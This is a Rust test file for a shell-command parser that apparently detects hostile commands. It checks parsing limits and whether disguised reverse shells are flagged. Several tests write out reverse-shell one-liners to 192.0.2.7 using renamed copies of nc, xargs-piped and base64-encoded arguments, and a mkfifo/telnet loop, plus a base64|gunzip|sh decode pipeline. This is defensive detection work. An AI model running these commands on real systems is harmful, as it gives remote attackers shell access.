//! Commands at their limits, and the real data where it is: bounded output, rows as wide as the schema.

#![expect(
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "a test fails by a panic, and says when it is skipped"
)]

use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;

use base64::Engine;
use flate2::Compression;
use flate2::read::MultiGzDecoder;
use flate2::write::GzEncoder;
use ringtrue_core::Limits;
use ringtrue_intake::command::{Command, ParseIssue, schema, signals_of};
use ringtrue_intake::text::TextParameters;

/// Reads, and checks what holds for every command.
fn read(text: &str) -> (Command, Vec<ParseIssue>) {
    let limits = Limits::default();
    let (command, issues) = Command::parse(text, &limits);
    let mut row = Vec::new();
    signals_of(&command, &mut row);
    assert_eq!(row.len(), schema().signals.len());
    assert!(row.iter().all(|value| !value.is_infinite()));
    let mut tokens = Vec::new();
    ringtrue_intake::command::text::tokens(&command, &TextParameters::default(), &mut tokens);
    let room = limits.command_bytes_max + limits.command_decoded_bytes_max;
    assert!(command.normalised().len() <= 16 * room);
    (command, issues)
}

#[test]
fn nests_of_every_kind_are_read_to_their_limit() {
    for unit in [
        "$(", "\"$(", "'\"", "`", "(", "{", "{a,", "${", "$((", "<(", "sh -c '", "eval \"", "\\",
        "$'", "a=$a$a;", "<<A ",
    ] {
        let (_, issues) = read(&unit.repeat(100_000));
        assert!(issues.contains(&ParseIssue::TooLong), "{unit}: {issues:?}");
        read(&unit.repeat(5_000));
    }
}

#[test]
fn a_line_of_megabytes_is_read_to_its_limit() {
    let line = "x".repeat(8 << 20);
    let (command, issues) = read(&line);
    assert_eq!(issues, [ParseIssue::TooLong]);
    assert_eq!(command.written().len(), Limits::default().command_bytes_max);
    // The limit falls inside of a letter.
    let (command, _) = read(&format!("a{}", "é".repeat(40_000)));
    assert_eq!(
        command.written().len(),
        Limits::default().command_bytes_max - 1
    );
}

#[test]
fn a_bomb_gives_no_more_than_its_limit() {
    let mut packer = GzEncoder::new(Vec::new(), Compression::best());
    packer.write_all(&b"id ; ".repeat(2_000_000)).unwrap();
    let encoded = base64::engine::general_purpose::STANDARD.encode(packer.finish().unwrap());
    let (command, issues) = read(&format!("echo {encoded} | base64 -d | gunzip | sh"));
    assert!(
        issues.contains(&ParseIssue::TooMuchDecoded)
            || issues.contains(&ParseIssue::TooManyStatements),
        "{issues:?}"
    );
    assert!(command.programs().count() <= Limits::default().command_statements_max);
}

#[test]
fn variables_that_double_stay_in_their_limit() {
    let mut line = "a=xxxxxxxx;".to_owned();
    for _ in 0..60 {
        line.push_str("a=$a$a;");
    }
    line.push_str("echo $a");
    let (_, issues) = read(&line);
    assert!(issues.contains(&ParseIssue::TooMuchDecoded), "{issues:?}");
}

#[test]
fn each_limit_is_tested_on_both_sides() {
    let issues = |text: &str, limits: Limits| Command::parse(text, &limits).1;
    let limits = Limits {
        command_bytes_max: 4,
        ..Limits::default()
    };
    assert_eq!(issues("abcd", limits), []);
    assert_eq!(issues("abcde", limits), [ParseIssue::TooLong]);
    let limits = Limits {
        command_statements_max: 2,
        ..Limits::default()
    };
    assert_eq!(issues("a;b", limits), []);
    assert_eq!(issues("a;b;c", limits), [ParseIssue::TooManyStatements]);
    let limits = Limits {
        command_layers_max: 1,
        ..Limits::default()
    };
    assert_eq!(issues("sh -c 'id'", limits), []);
    assert_eq!(issues("sh -c 'eval id'", limits), [ParseIssue::TooDeep]);
    let limits = Limits {
        command_decoded_bytes_max: 8,
        ..Limits::default()
    };
    assert_eq!(issues("sh -c 'id -u -n'", limits), []);
    assert_eq!(
        issues("sh -c 'id -u -nn'", limits),
        [ParseIssue::TooMuchDecoded]
    );
    let limits = Limits {
        command_braces_max: 2,
        ..Limits::default()
    };
    let words = |text: &str| Command::parse(text, &limits).0.normalised();
    assert_eq!(words("a {b,c}"), "a b c");
    assert_eq!(words("a {b,c,d}"), "a {b,c,d}");
}

/// The lines of the real data, by file.
/// Returns whether a line is read as a shell that another machine gets.
fn connects_back(line: &str) -> bool {
    let (command, _) = read(line);
    command.actions().any(|action| action == "ConnectBack")
}

#[test]
fn a_program_is_known_by_the_name_of_its_copy() {
    for line in [
        "cp \"$(command -v nc)\" /dev/shm/a1;/dev//shm/./a1 -c sh 192.0.2.7 22",
        "nice -n 0 cp /bin/nc /tmp/x; /tmp/x -c sh 192.0.2.7 22",
        "(exec -a worker cp /bin/nc /tmp/x);/tmp/x -c sh 192.0.2.7 22",
        "printf '%s\\n' /bin/nc /tmp/x | xargs cp;/tmp/x -c sh 192.0.2.7 22",
        "sh -c 'cp /bin/nc /tmp/x'; /tmp/y/../x -c sh 192.0.2.7 22",
        "ln -s nc ./x && ./x -c sh 192.0.2.7 22",
    ] {
        assert!(connects_back(line), "{line}");
    }
    // Another file, and the copy of another program.
    assert!(!connects_back(
        "cp /bin/nc /tmp/x; /tmp/x2 -c sh 192.0.2.7 22"
    ));
    assert!(!connects_back(
        "cp /bin/ls /tmp/x; /tmp/x -c sh 192.0.2.7 22"
    ));
}

#[test]
fn arguments_that_come_through_a_pipe_are_read() {
    for line in [
        "printf '%s ' -c sh 192.0.2.7 22 | xargs nc",
        "echo 192.0.2.7 22 | xargs nc -c sh",
        "echo LWMgc2ggMTkyLjAuMi43IDIy | base64 -d | xargs nice nc",
    ] {
        assert!(connects_back(line), "{line}");
    }
    assert!(!connects_back("echo 192.0.2.7 22 | xargs nc -z"));
}

#[test]
fn a_shell_is_the_same_by_its_name_and_by_its_path() {
    let actions = |shell: &str| -> Vec<_> {
        let (command, _) = read(&format!("nc -c {shell} 192.0.2.7 22"));
        command.actions().collect()
    };
    for shell in ["sh", "bash", "dash"] {
        assert_eq!(actions(shell), actions(&format!("/bin/{shell}")));
    }
}

#[test]
fn what_runs_a_program_hides_nothing_of_what_it_does() {
    let line = |wrapper: &str| {
        format!("mkfifo /tmp/p && telnet 192.0.2.7 23 0</tmp/p | {wrapper}sh 1>/tmp/p")
    };
    let actions = |line: &str| -> Vec<_> { read(line).0.actions().collect() };
    let plain = actions(&line(""));
    assert!(!plain.is_empty());
    for wrapper in [
        "nice -n 0 ",
        "timeout --foreground 1d ",
        "env timeout -k 3 5 ",
    ] {
        let wrapped = actions(&line(wrapper));
        assert!(
            plain.iter().all(|action| wrapped.contains(action)),
            "{wrapper}: {wrapped:?}"
        );
    }
}

fn data() -> Vec<(PathBuf, Vec<String>)> {
    let Ok(folder) = std::env::var("RINGTRUE_DATA") else {
        eprintln!("skipped: RINGTRUE_DATA is not set");
        return Vec::new();
    };
    let mut paths: Vec<PathBuf> = std::fs::read_dir(PathBuf::from(folder).join("command"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|extension| extension == "gz"))
        .collect();
    paths.sort();
    let lines = |path: &PathBuf| {
        let file = std::fs::File::open(path).unwrap();
        BufReader::new(MultiGzDecoder::new(file))
            .lines()
            .map(Result::unwrap)
            .collect()
    };
    paths
        .iter()
        .map(|path| (path.clone(), lines(path)))
        .collect()
}

#[test]
fn real_commands_give_rows() {
    for (path, lines) in data() {
        let mut read_lines = 0_usize;
        for line in &lines {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            let one = row.get("command").and_then(serde_json::Value::as_str);
            let many = row.get("commands").and_then(serde_json::Value::as_array);
            let many = many
                .into_iter()
                .flatten()
                .filter_map(serde_json::Value::as_str);
            for command in one.into_iter().chain(many) {
                let (parsed, _) = read(command);
                assert!(
                    !parsed.normalised().is_empty()
                        || command
                            .trim_matches([' ', ';', '\n', '\r', '\t'])
                            .is_empty()
                        || command.trim_start().starts_with('#'),
                    "{command}"
                );
                read_lines += 1;
            }
        }
        eprintln!("{}: {read_lines} commands", path.display());
    }
}
